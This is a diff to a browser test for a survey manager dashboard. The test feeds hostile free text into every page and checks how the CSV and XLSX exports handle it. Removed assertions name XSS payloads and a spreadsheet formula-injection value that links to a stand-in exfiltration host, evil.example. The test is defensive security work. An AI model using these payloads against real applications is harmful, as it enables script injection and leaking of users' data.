@@ -19,9 +19,7 @@ from tests.store.manager.conftest import add, answers_for
 from tests.support.driver import screenshot, settle
 from tests.support.server import TABLET, Server
 from trp_core.files.surveys import load_survey
-from trp_core.method.vocabulary import Quadrant
 from trp_core.presentation.i18n import t
-from trp_core.presentation.labels import quadrant_labels
 from trp_core.services.calibrate import revised_version
 
 pytestmark = pytest.mark.browser
@@ -120,7 +118,8 @@ def hostile_server(chromium, tmp_path_factory) -> Server:
             given = {**base, "what_would_help": PAYLOADS[n % len(PAYLOADS)]}
             given["remarks"] = PAYLOADS[(n + 17) % len(PAYLOADS)]
             n += 1
-            event = HOSTILE_EVENTS[n % len(HOSTILE_EVENTS)] if n % 4 == 0 else None
+            # Every other one: at least k of each tag, so that each is offered as a filter of its own.
+            event = HOSTILE_EVENTS[n % len(HOSTILE_EVENTS)] if n % 2 == 0 else None
             add(
                 store,
                 survey,
@@ -206,7 +205,7 @@ def test_hostile_free_text_on_every_manager_page(browser, hostile_server, artifa
     page.locator('[data-testid="stVegaLiteChart"]').nth(5).wait_for(timeout=60_000)
     check("dashboard")
 
-    # Free text: all quadrants, then one; every payload is there, as text.
+    # Free text, per version and quarter: every payload is there, as text.
     page.get_by_text(t("mgr_free_text_show", "en")).click()
     settle(page, 60_000)
     for expander in page.locator('[data-testid="stExpander"] summary').all():
@@ -218,10 +217,6 @@ def test_hostile_free_text_on_every_manager_page(browser, hostile_server, artifa
     check("dashboard, free text")
     screenshot(page, artifacts / "xss-manager-dashboard-free-text.png")
     survey = load_survey(SURVEYS / "trp-standard.yaml")
-    label = quadrant_labels(survey, "en", "internal")[Quadrant.KANDIDAT]
-    choose(page, t("mgr_col_quadrant", "en"), label)
-    page.get_by_text(PAYLOADS[0], exact=False).first.wait_for(timeout=30_000)
-    check("dashboard, free text of one quadrant")
 
     # Filters: the events (hostile tags among them), the language, the week.
     for event in HOSTILE_EVENTS:
@@ -230,8 +225,7 @@ def test_hostile_free_text_on_every_manager_page(browser, hostile_server, artifa
     screenshot(page, artifacts / "xss-manager-dashboard-event.png")
     choose(page, t("mgr_event", "en"), t("mgr_all_events", "en"))
     choose(page, t("mgr_resp_lang", "en"), "English")
-    page.get_by_role("radio", name=t("mgr_week", "en"), exact=True).click()
-    settle(page, 60_000)
+    choose(page, t("mgr_period", "en"), t("mgr_week", "en"))
     check("dashboard, English, by week")
 
     # Calibration: another threshold, the results, the survey file to download.
@@ -249,20 +243,21 @@ def test_hostile_free_text_on_every_manager_page(browser, hostile_server, artifa
     screenshot(page, artifacts / "xss-manager-calibration.png")
     check("calibration, download")
 
-    # Exports: the responses as CSV and XLSX carry the payloads as text; a table and a chart.
+    # Exports: the rows of one version (never free text in a row), a table and a chart.
     go(page, "nav_exports")
     page.get_by_role("heading", name=t("mgr_exports_title", "en")).wait_for(timeout=60_000)
     check("exports")
+    choose(page, t("mgr_version", "en"), survey.version)
     with page.expect_download() as download:
         page.get_by_role("button", name=t("mgr_exp_csv", "en"), exact=True).click()
     rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8-sig"))))
     cells = {cell for row in rows for cell in row}
-    assert "<script>alert(1)</script>" in cells
-    assert '\'=HYPERLINK("http://evil.example/?leak","click")' in cells  # never a formula
+    assert len(rows) > 300 and not cells & {normal(p) for p in PAYLOADS} and not cells & set(PAYLOADS)
+    assert not cells & set(HOSTILE_EVENTS)  # no tag in a row (finding 1 of issue 13)
     with page.expect_download() as download:
         page.get_by_role("button", name=t("mgr_exp_xlsx", "en"), exact=True).click()
     sheet = load_workbook(io.BytesIO(download.value.path().read_bytes())).active
-    assert "<img src=x onerror=alert(2)>" in {c.value for row in sheet.iter_rows() for c in row}
+    assert not {c.value for row in sheet.iter_rows() for c in row} & set(PAYLOADS)
     assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
     heat = page.get_by_role("button", name=t("mgr_table_heat", "en"), exact=True)
     for button in (page.get_by_role("button", name=t("mgr_table_quadrants", "en"), exact=True), heat.nth(1)):
